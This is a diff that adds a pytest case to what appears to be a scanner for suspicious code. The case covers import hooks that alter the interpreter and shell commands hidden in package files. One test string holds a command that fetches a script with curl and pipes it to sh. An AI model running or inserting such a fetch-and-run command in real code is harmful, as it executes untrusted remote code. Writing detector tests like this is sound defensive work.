@@ -296,3 +296,13 @@ def test_a_command_that_fetches_and_runs_is_told_and_one_that_asks_is_not() -> N
     assert set(told(planted)) == {"code-shell-command"}
     assert set(told(listed)) == {"code-shell-command"}
     assert told(lawful) == {}
+
+
+def test_packages_that_nobody_trains_with_do_things_for_their_own_ends() -> None:
+    hook = "import sys\nsys.meta_path.insert(0, Finder())\n"
+    harm = "import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n"
+
+    assert set(told(hook)) == {"code-interpreter-altered"}
+    assert told(hook, "venv/site-packages/six.py") == {}
+    assert told(hook, "six-1.0.whl!six.py") == {}
+    assert set(told(harm, "six-1.0.whl!six.py")) == {"code-shell-command"}
